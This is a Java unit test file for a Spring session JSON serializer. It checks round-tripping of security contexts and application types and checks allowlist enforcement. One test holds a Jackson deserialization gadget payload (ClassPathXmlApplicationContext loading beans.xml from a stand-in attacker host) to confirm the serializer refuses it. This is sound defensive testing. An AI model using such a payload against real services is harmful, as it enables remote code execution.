package dev.redisboot.session.autoconfigure;

import java.util.List;

import dev.redisboot.core.InvalidPropertyException;
import dev.redisboot.core.json.TypedJsonSerializer;
import org.junit.jupiter.api.Test;
import tools.jackson.core.JacksonException;

import org.springframework.boot.test.context.FilteredClassLoader;
import org.springframework.mock.web.MockHttpServletRequest;
import org.springframework.security.authentication.UsernamePasswordAuthenticationToken;
import org.springframework.security.core.GrantedAuthority;
import org.springframework.security.core.authority.AuthorityUtils;
import org.springframework.security.core.context.SecurityContextImpl;
import org.springframework.security.core.userdetails.User;
import org.springframework.security.jackson.SecurityJacksonModules;
import org.springframework.security.web.authentication.WebAuthenticationDetails;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

/**
 * The JSON of session attributes, with and without Spring Security.
 */
class SessionJsonTests {

	private static final ClassLoader LOADER = SessionJsonTests.class.getClassLoader();

	record Cart(String owner, List<String> items) {
	}

	@Test
	void springSecuritysContextRoundTrips() {
		TypedJsonSerializer json = SessionJson.create(List.of("dev.redisboot.session"), List.of(), LOADER);
		List<GrantedAuthority> authorities = AuthorityUtils.createAuthorityList("ROLE_USER", "ROLE_ADMIN");
		UsernamePasswordAuthenticationToken authentication = UsernamePasswordAuthenticationToken
			.authenticated(new User("ada", "", authorities), null, authorities);
		MockHttpServletRequest request = new MockHttpServletRequest();
		request.setRemoteAddr("203.0.113.7");
		authentication.setDetails(new WebAuthenticationDetails(request));
		SecurityContextImpl context = new SecurityContextImpl(authentication);
		byte[] bytes = json.serialize(context);
		assertThat(new String(bytes)).contains("\"username\":\"ada\"").contains("\"password\":\"\"");
		Object read = json.deserialize(bytes);
		assertThat(read).isEqualTo(context);
		assertThat(((SecurityContextImpl) read).getAuthentication().getAuthorities()).hasSize(2);
	}

	@Test
	void applicationTypesRoundTripNextToSpringSecuritys() {
		TypedJsonSerializer json = SessionJson.create(List.of("dev.redisboot.session"), List.of(), LOADER);
		Cart cart = new Cart("ada", List.of("book", "pen"));
		assertThat(json.deserialize(json.serialize(cart))).isEqualTo(cart);
	}

	@Test
	void typesOutsideBothAllowlistsAreRefused() {
		TypedJsonSerializer json = SessionJson.create(List.of("dev.redisboot.session"), List.of(), LOADER);
		assertThatExceptionOfType(JacksonException.class).isThrownBy(() -> json.deserialize(
				("{\"@class\":\"org.springframework.context.support.ClassPathXmlApplicationContext\","
						+ "\"configLocation\":\"http://attacker.example/beans.xml\"}").getBytes()))
			.withMessageContaining("denied");
	}

	@Test
	void withoutSpringSecurityItsTypesAreNotAllowed() {
		ClassLoader withoutSecurity = new FilteredClassLoader(SecurityJacksonModules.class);
		TypedJsonSerializer json = SessionJson.create(List.of("dev.redisboot.session"), List.of(), withoutSecurity);
		TypedJsonSerializer withSecurity = SessionJson.create(List.of("dev.redisboot.session"), List.of(), LOADER);
		byte[] bytes = withSecurity.serialize(new SecurityContextImpl(UsernamePasswordAuthenticationToken
			.authenticated("ada", null, AuthorityUtils.createAuthorityList("ROLE_USER"))));
		assertThatExceptionOfType(JacksonException.class).isThrownBy(() -> json.deserialize(bytes));
	}

	@Test
	void configuredPackagesAreAllowed() {
		TypedJsonSerializer json = SessionJson.create(List.of(), List.of("dev.redisboot.session"), LOADER);
		Cart cart = new Cart("ada", List.of());
		assertThat(json.deserialize(json.serialize(cart))).isEqualTo(cart);
		TypedJsonSerializer without = SessionJson.create(List.of(), List.of(), LOADER);
		assertThatExceptionOfType(JacksonException.class).isThrownBy(() -> without.deserialize(json.serialize(cart)));
	}

	@Test
	void tooBroadPackagesFailNamingTheProperty() {
		assertThatExceptionOfType(InvalidPropertyException.class)
			.isThrownBy(() -> SessionJson.create(List.of(), List.of("java.util"), LOADER))
			.satisfies((ex) -> assertThat(ex.getPropertyName()).isEqualTo("redisboot.session.allowed-packages"));
	}

}
